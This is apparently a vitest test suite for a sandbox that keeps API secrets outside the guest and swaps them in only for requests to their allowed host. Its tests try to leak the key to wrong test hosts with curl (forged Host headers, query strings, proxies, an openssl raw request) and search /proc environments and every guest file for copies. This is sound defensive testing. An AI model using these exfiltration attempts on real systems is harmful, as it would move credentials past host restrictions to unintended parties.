import { once } from "node:events";
import { readdir, readFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import { expect } from "vitest";
import type { ExecProcess } from "../../src/runtime/guest/guest.ts";
import type { Sandbox } from "../../src/sandbox/sandbox.ts";
import { encodeEverywhere, tellingPieces } from "../support/echo-encoders.ts";
import type { Origin, SecretLab } from "../support/secret-lab.ts";
import { openSecretLab } from "../support/secret-lab.ts";
import { findInMemory, processesIn } from "./support/memory.ts";
import { isRoot } from "./support/outside.ts";
import { verifies } from "./verifies.ts";

const VALUE = "sk-planted+0123456789/abcdef==";
/** Given to the sandbox openly, so that each search shows that it can find. */
const CONTROL = "control-value-that-is-no-secret";
const FORMS = [VALUE, encodeURIComponent(VALUE), Buffer.from(VALUE).toString("base64"), Buffer.from(VALUE).toString("hex")];
const BASIC = Buffer.from(`user:${VALUE}`).toString("base64");

function echo(request: IncomingMessage, response: ServerResponse): void {
  response.setHeader("x-echo", [request.headers.authorization ?? "", encodeURIComponent(request.url ?? "")]);
  response.end(JSON.stringify({ url: request.url, headers: request.headers, form: FORMS }));
}

/** Sends the key in every way, keeps what comes back, says so, and lives on. */
const CLIENT = `
import base64, json, os, sys, urllib.error, urllib.parse, urllib.request
key, url, other, kept = os.environ["API_KEY"], sys.argv[1], sys.argv[2], []
def ask(url, headers={}):
    try:
        answer = urllib.request.urlopen(urllib.request.Request(url, headers=headers))
    except urllib.error.HTTPError as error:
        answer = error
    except OSError as error:
        return kept.append((str(error), "", ""))
    kept.append((answer.status, str(answer.headers), answer.read().decode()))
ask(url, {"Authorization": "Bearer " + key})
ask(url, {"Authorization": "Basic " + base64.b64encode(("user:" + key).encode()).decode()})
ask(url + "?key=" + urllib.parse.quote(key))
ask(other, {"X-Key": key})
open("/tmp/kept", "w").write(json.dumps(kept) + os.environ["CONTROL"])
print(json.dumps([status for status, _, _ in kept]), flush=True)
sys.stdin.read()
`;

interface Used {
  readonly sandbox: Sandbox;
  /** Of API_KEY. */
  readonly api: Origin;
  /** Of OTHER_KEY. */
  readonly other: Origin;
}

async function openUsed(lab: SecretLab): Promise<Used> {
  await lab.store.set("local", "openai", VALUE);
  await lab.store.set("local", "other", "another-value");
  const [api, other] = await Promise.all([lab.https("api.secret.test", echo), lab.https("other.secret.test", echo)]);
  const sandbox = await lab.sandbox({
    network: { allow: [api.authority, other.authority] },
    secrets: { API_KEY: { secret: "openai", hosts: [api.authority] }, OTHER_KEY: { secret: "other", hosts: [other.authority] } },
    env: { CONTROL },
  });
  return { sandbox, api, other };
}

async function inside(sandbox: Sandbox, script: string): Promise<string> {
  const { stdout, stderr } = await sandbox.guest.run({
    argv: ["bash", "-c", script],
    user: "root",
    timeoutMs: 30_000,
    signal: AbortSignal.timeout(40_000),
  });
  return stdout.toString() + stderr.toString();
}

/** Where the sandbox's files have ids of their own, which an ordinary user reads from inside alone. */
const CLOSED: readonly string[] = isRoot ? [] : ["layers"];

/** All that lies in the files of a folder. */
async function contentOf(folder: string): Promise<string> {
  const entries = await readdir(folder, { withFileTypes: true });
  const texts = entries.map(async (entry) => {
    const path = join(folder, entry.name);
    if (entry.isFile()) return readFile(path, "latin1");
    return entry.isDirectory() && !CLOSED.includes(entry.name) ? contentOf(path) : "";
  });
  return (await Promise.all(texts)).join("\n");
}

const SEARCH = "find / /tmp /dev/shm /run -xdev -path /opt/belljar -prune -o -type f -exec cat {} + 2>/dev/null";

/** All files of the sandbox's own, as its root reads them; Belljar's programs, which lie there unchanged, left out. */
async function writtenInside(sandbox: Sandbox): Promise<string> {
  const options = { user: "root", maxOutputBytes: 256 << 20, signal: AbortSignal.timeout(40_000) };
  const { stdout, truncated } = await sandbox.guest.run({ argv: ["bash", "-c", SEARCH], ...options });
  expect(truncated).toBe(false);
  return stdout.toString("latin1");
}

/** What a program says first; rejects with its last words when it ends before, where waiting for words alone would never end. */
async function firstOutput({ stdout, stderr, exited }: ExecProcess): Promise<string> {
  const words: Buffer[] = [];
  stderr.on("data", (chunk: Buffer) => void words.push(chunk));
  const ended = exited.then(({ exitCode }) => {
    throw new TypeError(`ended with ${exitCode}: ${Buffer.concat(words).toString()}`);
  });
  const [first] = (await Promise.race([once(stdout, "data"), ended])) as [Buffer];
  return first.toString();
}

const foundIn = (text: string, wanted: readonly string[] = [...FORMS, BASIC]): readonly string[] =>
  wanted.filter((form) => text.includes(form));

verifies("secrets-stay-outside", async () => {
  await using lab = await openSecretLab();
  const { sandbox, api, other } = await openUsed(lab);
  await using client = await sandbox.guest.exec({
    argv: ["python3", "-c", CLIENT, `${api.url}/`, `${other.url}/`],
    signal: AbortSignal.timeout(50_000),
  });
  expect(JSON.parse(await firstOutput(client))).toEqual([200, 200, 200, 403]);
  const sent = api.requests.map(({ headers, url }) => headers.authorization ?? url);
  expect(sent).toEqual([`Bearer ${VALUE}`, `Basic ${BASIC}`, `/?key=${encodeURIComponent(VALUE)}`]);

  const [, keyLine = ""] = /PRIVATE KEY-----\\n([A-Za-z0-9+/]{40})/.exec(await contentOf(join(lab.home, "network"))) ?? [];
  expect(keyLine).toHaveLength(40);
  const pids = isRoot ? await processesIn((await inside(sandbox, "readlink /proc/self/ns/pid")).trim()) : [];
  if (isRoot) expect(pids.length).toBeGreaterThanOrEqual(2);
  const memory = new Set(
    (await Promise.all(pids.map((pid) => findInMemory(pid, [...FORMS, BASIC, keyLine, CONTROL])))).flatMap((found) => [...found]),
  );
  expect([...memory]).toEqual(isRoot ? [CONTROL] : []);

  const environment = await inside(sandbox, "cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'");
  expect(environment).toContain(CONTROL);
  expect(foundIn(environment)).toEqual([]);
  const answers = await inside(sandbox, "cat /tmp/kept");
  expect(answers).toContain(CONTROL);
  expect(foundIn(answers)).toEqual([]);

  client.stdin?.end();
  await client.exited;
  await lab.flush();
  const inner = await writtenInside(sandbox);
  expect(foundIn(inner, [CONTROL])).toEqual([CONTROL]);
  const disk = (await contentOf(lab.home)) + inner;
  expect(disk).toContain('"host":"api.secret.test"');
  expect(foundIn(disk)).toEqual([]);
  const sandboxes = (await contentOf(join(lab.home, "sandboxes"))) + inner;
  expect(foundIn(sandboxes, [keyLine])).toEqual([]);
  expect(foundIn(lab.reports.join("\n"))).toEqual([]);
});

verifies("placeholder-only-to-its-host", async () => {
  await using lab = await openSecretLab();
  const { sandbox, api, other } = await openUsed(lab);
  const [name = "", port = ""] = api.authority.split(":");
  const plain = await lab.http("plain.secret.test", echo);
  await sandbox.setNetwork({ allow: [api.authority, other.authority, plain.authority] });
  const send = (argv: string): Promise<string> => inside(sandbox, `curl -sS -o /dev/null -w '%{http_code}' ${argv}`);
  expect(await send(`-H "X-Key: $API_KEY" ${api.url}/`)).toBe("200");
  expect(api.requests.at(-1)?.headers["x-key"]).toBe(VALUE);

  const attempts = [
    `-H "X-Key: $API_KEY" ${other.url}/`,
    `-u "user:$API_KEY" ${other.url}/`,
    `"${other.url}/?key=$API_KEY"`,
    `-d "key=$API_KEY" ${other.url}/`,
    `-H "Host: ${api.authority}" -H "X-Key: $API_KEY" ${other.url}/`,
    `-H "X-Key: $API_KEY" ${plain.url}/`,
    `-d "key=$API_KEY" ${plain.url}/`,
    `--noproxy '*' -H "X-Key: $API_KEY" ${plain.url}/`,
    `-x socks5h://127.0.0.1:1080 -H "X-Key: $API_KEY" ${other.url}/`,
  ];
  for (const attempt of attempts) expect([attempt, await send(attempt)]).toEqual([attempt, expect.stringMatching(/^(403|000|421|400)/)]);
  // The same bytes over a connection to another host, under the right host's name.
  const forged = `printf 'GET / HTTP/1.1\\r\\nHost: ${api.authority}\\r\\nX-Key: %s\\r\\n\\r\\n' "$API_KEY" | timeout 20 openssl s_client -quiet -servername ${name} -connect ${other.authority}`;
  await inside(sandbox, forged);
  const received = [...other.requests, ...plain.requests].map(({ url, headers }) => JSON.stringify({ url, headers }));
  expect(foundIn(received.join("\n"))).toEqual([]);
  expect(received.join("\n")).not.toMatch(/belljar_secret_[a-z2-7]{26}/);
  expect(lab.records.filter(({ reason }) => reason === "placeholder").length).toBeGreaterThanOrEqual(7);
  expect(port).not.toBe("");
});

verifies("echo-masked", async () => {
  await using lab = await openSecretLab();
  const { sandbox, api } = await openUsed(lab);
  const direct = JSON.stringify(FORMS);
  expect(foundIn(direct, FORMS)).toEqual(FORMS);
  const said = await inside(sandbox, `curl -sS -i -H "X-Key: $API_KEY" -u "user:$API_KEY" "${api.url}/?key=$API_KEY"`);
  expect(api.requests.at(-1)?.headers).toMatchObject({ "x-key": VALUE, authorization: `Basic ${BASIC}` });
  expect(said).toContain('"form":');
  expect(foundIn(said)).toEqual([]);
  expect(said).toMatch(/x-echo: Basic /);
});

/** The same bytes in another order, but for the first and the last, of which base64 shows some bits. */
const CONTROL_VALUE = VALUE.replace(
  /^(.)(.*)(.)$/,
  (_all, first: string, rest: string, last: string) => first + rest.split("").toReversed().join("") + last,
);

verifies("echo-masked", async () => {
  const [ones = [], others = []] = encodeEverywhere([VALUE, CONTROL_VALUE]);
  const controls = new Map(others.map(({ encoder, bytes }) => [encoder, bytes]));
  const telling = ones.map(({ encoder, bytes }) => ({ encoder, pieces: tellingPieces(bytes, controls.get(encoder) ?? Buffer.alloc(0)) }));
  expect(telling.filter(({ pieces }) => pieces.length === 0)).toEqual([]);
  await using lab = await openSecretLab();
  await lab.store.set("local", "api", VALUE);
  const api = await lab.https("api.secret.test", (request, response) => void response.end(ones[Number(request.url?.slice(1))]?.bytes));
  const sandbox = await lab.sandbox({
    network: { allow: [api.authority] },
    secrets: { API_KEY: { secret: "api", hosts: [api.authority] } },
  });
  await inside(sandbox, `mkdir /tmp/said; curl -sS --fail "${api.url}/[0-${ones.length - 1}]" -o "/tmp/said/#1"`);
  for (const [index, { encoder, pieces }] of telling.entries()) {
    const said = await sandbox.guest.files.read(`/tmp/said/${index}`, { user: "root", signal: AbortSignal.timeout(30_000) });
    expect([encoder, said.length]).toEqual([encoder, expect.any(Number)]);
    expect([encoder, pieces.filter((piece) => said.toString("latin1").includes(piece))]).toEqual([encoder, []]);
  }
});

verifies("authority-trusted-inside-alone", async () => {
  await using lab = await openSecretLab();
  const [{ sandbox, api }, stranger] = [await openUsed(lab), await lab.sandbox({ network: "none" })];
  const certificate = await inside(sandbox, "cat /etc/ssl/certs/belljar-ca.pem");
  const other = await lab.sandbox({
    network: { allow: [api.authority] },
    secrets: { API_KEY: { secret: "openai", hosts: [api.authority] } },
  });
  // Names are alike in all of them; the signature at the end is not.
  const body = certificate.match(/^[A-Za-z0-9+/]{64}$/gm)?.at(-1) ?? "";
  expect(body).toHaveLength(64);
  expect(foundIn(await inside(sandbox, "cat /etc/ssl/certs/ca-certificates.crt"), [body])).toEqual([body]);
  for (const one of [other, stranger]) expect(foundIn(await inside(one, "cat /etc/ssl/certs/*"), [body])).toEqual([]);
  expect(foundIn(await readFile("/etc/ssl/certs/ca-certificates.crt", "utf8"), [body])).toEqual([]);
  // It signs for no host but those whose traffic is read: another one's own certificate comes through.
  const third = await lab.https("third.secret.test", echo);
  await sandbox.setNetwork({ allow: [api.authority, third.authority] });
  const issuer = (origin: Origin): Promise<string> =>
    inside(
      sandbox,
      `openssl s_client -connect ${origin.authority} -servername ${origin.authority.split(":")[0]} </dev/null 2>/dev/null | openssl x509 -noout -pubkey -ext authorityKeyIdentifier`,
    );
  const keyId = await inside(
    sandbox,
    "openssl x509 -in /etc/ssl/certs/belljar-ca.pem -noout -ext subjectKeyIdentifier | tail -1 | tr -d ' '",
  );
  expect((await issuer(api)).replaceAll(" ", "")).toContain(keyId.trim());
  expect((await issuer(third)).replaceAll(" ", "")).not.toContain(keyId.trim());
});
